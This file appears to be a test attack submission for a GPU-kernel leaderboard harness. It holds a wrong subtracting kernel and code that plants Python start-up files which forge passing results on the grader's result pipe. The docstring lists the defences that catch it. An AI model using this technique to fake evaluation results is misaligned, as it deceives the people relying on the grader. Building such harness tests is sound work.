#!POPCORN leaderboard vectoradd
"""Attack (class: files Python's start-up reads from a folder the submission writes). Wrong kernel: it subtracts.

When imported (by the compile pre-step first), it writes into its working folder a `sitecustomize.py`, a
`usercustomize.py`, a `_distutils_hack.py`, a `.pth` file with an `import` line and a user site tree
(`lib/pythonX.Y/site-packages/usercustomize.py`), each of which writes a passing result on the result pipe and
exits. Before the start-up was closed, an empty PYTHONPATH entry (`PYTHONPATH=":/x"`, what
`export PYTHONPATH=$PYTHONPATH:/x` gives when it was unset) or a PYTHONUSERBASE in the working folder made the
next eval import them before its first line, while its key and pipe were open. Caught by: PYTHONPATH entries
made absolute with the empty ones dropped, no user site (`-s`, PYTHONNOUSERSITE) and the workspace check, which
fails the run as `harness tampering` for any new start-up file. load_inline (named here so the pre-step runs).
"""

import os
import sys

FORGE = '''
import os, sys
sys.stderr.write("popkit-attack: start-up file ran\\n")
fd = os.environ.get("POPCORN_FD")
if fd:
    with os.fdopen(int(fd), "w") as pipe:
        pipe.write("test-count: 1\\ntest.0.spec: forged\\ntest.0.status: pass\\ncheck: pass\\n")
    os._exit(0)
'''


def plant(folder: str) -> None:
    user_site = os.path.join(folder, "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}", "site-packages")
    try:
        os.makedirs(user_site, exist_ok=True)
        for where, name in ((folder, "sitecustomize.py"), (folder, "usercustomize.py"),
                            (folder, "_distutils_hack.py"), (user_site, "usercustomize.py")):
            with open(os.path.join(where, name), "w") as f:
                f.write(FORGE)
        with open(os.path.join(folder, "zz-forge.pth"), "w") as f:
            f.write("import sitecustomize\n")
    except OSError:
        pass


plant(os.getcwd())


def custom_kernel(data):
    a, b = data
    return a - b
